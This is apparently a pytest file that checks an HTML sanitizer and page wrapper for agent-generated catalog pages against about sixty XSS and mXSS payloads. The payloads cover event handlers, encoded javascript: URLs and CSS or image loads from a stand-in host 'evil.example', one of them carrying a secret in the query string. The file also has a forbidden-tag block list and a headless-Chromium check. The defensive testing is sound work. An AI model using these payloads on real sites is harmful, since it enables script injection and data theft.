"""The page a model submits: no attack survives sanitizing, a real catalog does, and the wrapper
shows the run's metadata. One test opens a page in headless Chromium to see that nothing ran."""

from __future__ import annotations

import html
import re
import shutil
import subprocess
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest

from services.agent_runner.errors import InvalidHtml
from services.agent_runner.html import (
    CONTENT_SECURITY_POLICY,
    PageMeta,
    escape_text,
    sanitize,
    wrap_page,
)
from services.common.usage import TokenUsage

MAX = 1_000_000
PNG = (  # one red pixel
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ"
    "DwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
JS_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

# OWASP XSS filter evasion cheat sheet, mXSS write-ups and exfiltration tricks.
ATTACKS = {
    "script": "<script>alert(1)</script><p>x</p>",
    "script_src": "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT><p>x</p>",
    "script_split": "<scr<script>ipt>alert(1)</scr</script>ipt><p>x</p>",
    "img_onerror": '<img src=x onerror="alert(1)"><p>x</p>',
    "img_onerror_noquotes": "<IMG SRC=# onmouseover=alert(1)><p>x</p>",
    "svg_onload": "<svg onload=alert(1)><p>x</p>",
    "body_onload": "<body onload=alert(1)><p>x</p></body>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "link_onclick": '<a href="https://example.com" onclick="alert(1)">x</a>',
    "input_onfocus": "<input autofocus onfocus=alert(1)><p>x</p>",
    "media_onerror": (
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)><p>x</p>"
    ),
    "href_javascript": '<a href="javascript:alert(1)">x</a>',
    "href_mixed_case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href_leading_space": '<a href=" javascript:alert(1)">x</a>',
    "href_decimal_entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "href_hex_entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "href_tab": '<a href="java\tscript:alert(1)">x</a>',
    "href_encoded_tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href_newline": '<a href="java&#10;script:alert(1)">x</a>',
    "href_vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href_data_html": f'<a href="data:text/html;base64,{JS_B64}">x</a>',
    "href_protocol_relative": '<a href="//evil.example/x">x</a>',
    "iframe_src": '<iframe src="javascript:alert(1)"></iframe><p>x</p>',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>x</p>',
    "object_data": '<object data="javascript:alert(1)"></object><p>x</p>',
    "embed": f'<embed src="data:text/html;base64,{JS_B64}"><p>x</p>',
    "form_action": '<form action="javascript:alert(1)"><button>go</button></form><p>x</p>',
    "button_formaction": "<button formaction=javascript:alert(1)>go</button><p>x</p>",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>',
    "base_href": '<base href="javascript:alert(1)//"><a href="#a">x</a>',
    "link_stylesheet": '<link rel=stylesheet href="http://evil.example/x.css"><p>x</p>',
    "style_import": "<style>@import 'http://evil.example/x.css';</style><p>x</p>",
    "style_url_javascript": '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>',
    "style_expression": "<style>p{width:expression(alert(1))}</style><p>x</p>",
    "inline_url_javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "inline_url_remote": '<div style="color:red;background-image:url(http://evil.example/t.png)">x</div>',
    "inline_expression": '<div style="width: expression(alert(1))">x</div>',
    "inline_behavior": '<div style="behavior: url(x.htc)">x</div>',
    "inline_moz_binding": '<div style="-moz-binding:url(http://evil.example/x.xml#xss)">x</div>',
    "inline_css_escape": r'<div style="background:u\72l(http://evil.example/t.png)">x</div>',
    "inline_css_comment": '<div style="list-style-image:u/**/rl(http://evil.example/t.png)">x</div>',
    "inline_src_function": '<div style="list-style-image:src(http://evil.example/t.png)">x</div>',
    "inline_import": "<div style=\"@import 'http://evil.example/x.css'\">x</div>",
    "table_background": '<table background="http://evil.example/t.png"><tr><td>x</td></tr></table>',
    "math_mglyph_mxss": "<p>x</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math_style_mxss": "<math><mi><style><img src=x onerror=alert(1)></style></mi></math><p>x</p>",
    "svg_foreign_object": (
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg><p>x</p>"
    ),
    "svg_xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>x</p>',
    "svg_script": "<svg><script>alert(1)</script></svg><p>x</p>",
    "img_remote": '<img src="http://evil.example/x.png?c=secret" alt="a"><p>x</p>',
    "img_remote_https": '<img src="https://evil.example/x.png" alt="a"><p>x</p>',
    "img_protocol_relative": '<img src="//evil.example/x.png" alt="a"><p>x</p>',
    "img_srcset": '<img srcset="http://evil.example/x.png 1x" alt="a"><p>x</p>',
    "img_data_html": f'<img src="data:text/html;base64,{JS_B64}" alt="a"><p>x</p>',
    "img_svg_not_base64": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="a"><p>x</p>',
    "template": "<template><img src=x onerror=alert(1)></template><p>x</p>",
    "noscript_title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "xmp_title": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><p>x</p>',
    "comment_confusion": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "textarea_breakout": "<textarea></textarea><script>alert(1)</script></textarea><p>x</p>",
}

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "base",
    "meta",
    "link",
    "style",
    "svg",
    "math",
    "template",
    "noscript",
    "foreignobject",
    "video",
    "audio",
    "source",
}


class _Elements(HTMLParser):
    """Every start tag with its (unescaped) attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))


def _elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser.elements


def _as_url(value: str) -> str:
    return re.sub(r"[\x00-\x20]", "", value).lower()


def assert_inert(markup: str) -> None:
    """Nothing in `markup` can run a script or load a resource from elsewhere."""
    assert "<script" not in markup.lower()
    for tag, attrs in _elements(markup):
        assert tag not in FORBIDDEN_TAGS, (tag, markup)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, markup)
            assert name not in {"srcset", "srcdoc", "formaction", "action", "background"}
            url = _as_url(value)
            assert "javascript:" not in url and "vbscript:" not in url, (tag, name, markup)
            if name == "src":
                assert re.fullmatch(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,.*", url)
            if name == "href":
                assert url.startswith(("#", "https://", "http://")), url
            if name == "style":
                for token in ("url(", "expression(", "@import", "behavior", "binding", "\\"):
                    assert token not in url, (token, markup)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_executable_construct_survives(attack: str) -> None:
    cleaned = sanitize(attack, max_bytes=MAX)
    assert_inert(cleaned)
    assert "javascript:" not in html.unescape(cleaned).lower()
    assert "evil.example" not in cleaned
    # Stable on a second pass: what the browser parses is what was checked (no mXSS).
    assert sanitize(cleaned, max_bytes=MAX) == cleaned


def test_inline_style_cannot_lift_content_over_the_header() -> None:
    cleaned = sanitize(
        '<div style="position:fixed;top:0;left:0;z-index:99;transform:none;color:red">x</div>',
        max_bytes=MAX,
    )
    assert cleaned == '<div style="color:red">x</div>'


def test_dangerous_declarations_go_and_the_rest_stays() -> None:
    cleaned = sanitize(
        '<table><tr><td style="color: red; background: url(http://evil.example/t.png);'
        ' text-align: right">x</td></tr></table>',
        max_bytes=MAX,
    )
    assert "evil.example" not in cleaned
    assert "color:red" in cleaned and "text-align:right" in cleaned


CATALOG = f"""<h1 id="top">Sales database</h1>
<h2 id="section">Tables</h2>
<p>The <code>orders</code> table has <strong>1,204</strong> rows.</p>
<table style="border-collapse: collapse">
<caption>Columns of orders</caption>
<colgroup><col span="2"></colgroup>
<thead><tr><th scope="col">Column</th><th>Type</th></tr></thead>
<tbody>
<tr><td colspan="2" rowspan="1"
 style="color: #b91c1c; text-align: center; border: 1px solid #000">order_id</td></tr>
</tbody>
<tfoot><tr><td>2 columns</td><td><small>note</small></td></tr></tfoot>
</table>
<figure><img src="{PNG}" alt="Rows per day" width="320" height="200">
<figcaption>Rows per day</figcaption></figure>
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg chart">
<details open><summary>Sample values</summary><pre><code>SELECT 1 &lt; 2;</code></pre></details>
<p><a href="#section">Tables</a> and <a href="https://example.com/docs?a=1&amp;b=2">docs</a></p>
<ul><li><em>em</em> <mark>mark</mark> H<sub>2</sub>O x<sup>2</sup></li></ul>"""


def test_a_real_catalog_survives_intact() -> None:
    cleaned = sanitize(CATALOG, max_bytes=MAX)
    assert_inert(cleaned)
    for kept in (
        '<h1 id="top">Sales database</h1>',
        "<caption>Columns of orders</caption>",
        '<col span="2">',
        '<th scope="col">Column</th>',
        '<td colspan="2" rowspan="1" style="color:#b91c1c;text-align:center;border:1px solid #000">'
        "order_id</td>",
        '<table style="border-collapse:collapse">',
        "<tfoot>",
        f'<img src="{PNG}" alt="Rows per day" width="320" height="200">',
        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg chart">',
        "<figcaption>Rows per day</figcaption>",
        '<details open=""><summary>Sample values</summary>',
        "<pre><code>SELECT 1 &lt; 2;</code></pre>",
        '<a href="#section" rel="noopener noreferrer">Tables</a>',
        '<a href="https://example.com/docs?a=1&amp;b=2" rel="noopener noreferrer">docs</a>',
        "<em>em</em> <mark>mark</mark> H<sub>2</sub>O x<sup>2</sup>",
    ):
        assert kept in cleaned, kept


def test_a_whole_document_keeps_its_body_only() -> None:
    page = (
        "<!DOCTYPE html><html><head><title>Mine</title><style>h1{color:red}</style>"
        "</head><body><h1>Catalog</h1></body></html>"
    )
    assert sanitize(page, max_bytes=MAX) == "<h1>Catalog</h1>"


@pytest.mark.parametrize("content", ["", "   \n\t"])
def test_empty_content_is_rejected(content: str) -> None:
    with pytest.raises(InvalidHtml, match="empty"):
        sanitize(content, max_bytes=MAX)


def test_content_that_is_all_script_is_rejected() -> None:
    with pytest.raises(InvalidHtml, match="nothing is left"):
        sanitize("<script>alert(1)</script><style>p{}</style>", max_bytes=MAX)


def test_the_size_cap_counts_utf8_bytes() -> None:
    content = "<p>" + "é" * 10 + "</p>"  # 7 + 20 bytes
    assert sanitize(content, max_bytes=27) == content
    with pytest.raises(InvalidHtml, match=r"27 bytes, over the limit of 26 bytes"):
        sanitize(content, max_bytes=26)


def test_escape_text_shows_values_as_text() -> None:
    assert escape_text('<img src=x onerror="a">&\'') == (
        "&lt;img src=x onerror=&quot;a&quot;&gt;&amp;&#x27;"
    )
    assert escape_text(42) == "42"


def _meta(**changes: object) -> PageMeta:
    meta = PageMeta(
        agent_name="catalog <b>agent</b>",
        model='claude-x"><script>alert(1)</script>',
        generated_at=datetime(2025, 3, 4, 7, 8, 9, tzinfo=timezone(timedelta(hours=2))),
        usage=TokenUsage(
            input_tokens=1200,
            output_tokens=340,
            cache_creation_input_tokens=56,
            cache_read_input_tokens=7890,
        ),
        stop_reason="end_turn",
        turns=12,
        complete=True,
        run_id="run-<1>",
    )
    return replace(meta, **changes)  # type: ignore[arg-type]


def test_wrap_page_is_a_document_with_a_strict_policy() -> None:
    page = wrap_page("<p>body</p>", _meta())
    assert page.startswith("<!DOCTYPE html>")
    assert '<meta charset="utf-8">' in page
    csp = f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}">'
    assert csp in page
    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in CONTENT_SECURITY_POLICY
    # The policy comes before anything it must govern.
    assert page.index("Content-Security-Policy") < page.index("<style>") < page.index("<body>")
    assert "<title>Data catalog by catalog &lt;b&gt;agent&lt;/b&gt;</title>" in page
    assert "<p>body</p>" in page


def test_wrap_page_shows_the_metadata_escaped() -> None:
    page = wrap_page("<p>body</p>", _meta())
    assert "<script" not in page and "<b>agent" not in page
    for shown in (
        "catalog &lt;b&gt;agent&lt;/b&gt;",
        "claude-x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        '<time datetime="2025-03-04T05:08:09Z">2025-03-04T05:08:09Z</time>',
        "<dd>1200</dd>",
        "<dd>340</dd>",
        "<dd>56</dd>",
        "<dd>7890</dd>",
        "<dd>end_turn</dd>",
        "<dd>12</dd>",
        "run-&lt;1&gt;",
    ):
        assert shown in page, shown
    assert "Incomplete:" not in page
    assert "offline agent" not in page


def test_wrap_page_marks_an_incomplete_page() -> None:
    page = wrap_page(
        "<p>b</p>",
        _meta(complete=False, stop_reason="max_turns", incomplete_reason="turn budget <used up>"),
    )
    assert "Incomplete: turn budget &lt;used up&gt;</p>" in page
    page = wrap_page("<p>b</p>", _meta(complete=False, stop_reason="max_turns"))
    assert "Incomplete: max_turns</p>" in page


def test_wrap_page_notes_the_offline_agent() -> None:
    page = wrap_page("<p>b</p>", _meta(offline=True, title="Offline <catalog>"))
    assert "Written by the built-in offline agent, without a language model" in page
    assert "<title>Offline &lt;catalog&gt;</title>" in page


def test_page_meta_needs_an_aware_time() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        _meta(generated_at=datetime(2025, 1, 1))


def test_page_meta_shows_utc() -> None:
    page = wrap_page("<p>b</p>", _meta(generated_at=datetime(2025, 1, 1, 23, 30, tzinfo=UTC)))
    assert '<time datetime="2025-01-01T23:30:00Z">' in page


# --- in a real browser -------------------------------------------------------------------------

HOSTILE = """<h1>Catalog</h1>
<img src=x onerror="document.title='pwned'">
<script>document.title='pwned'</script>
<svg onload="document.title='pwned'"></svg>
<a href="javascript:document.title='pwned'">x</a>"""


def _browser_title(page: str, tmp_path: Path) -> str:
    """The document title after Chromium loaded `page` and ran whatever it would run."""
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.fail("Chromium is not installed: run `apt-get install -y chromium`", pytrace=False)
    tmp_path.mkdir()
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    done = subprocess.run(
        [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--dump-dom",
            path.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    found = re.search(r"<title>(.*?)</title>", done.stdout, re.DOTALL)
    assert found, done.stdout[:2000]
    return found.group(1)


def test_chromium_runs_nothing_from_a_sanitized_page(tmp_path: Path) -> None:
    # The control: the same markup unsanitized does run, so the check below can see a script.
    raw = f"<!DOCTYPE html><html><head><title>safe</title></head><body>{HOSTILE}</body></html>"
    assert _browser_title(raw, tmp_path / "raw") == "pwned"

    page = wrap_page(sanitize(HOSTILE, max_bytes=MAX), _meta(title="safe"))
    assert _browser_title(page, tmp_path / "clean") == "safe"
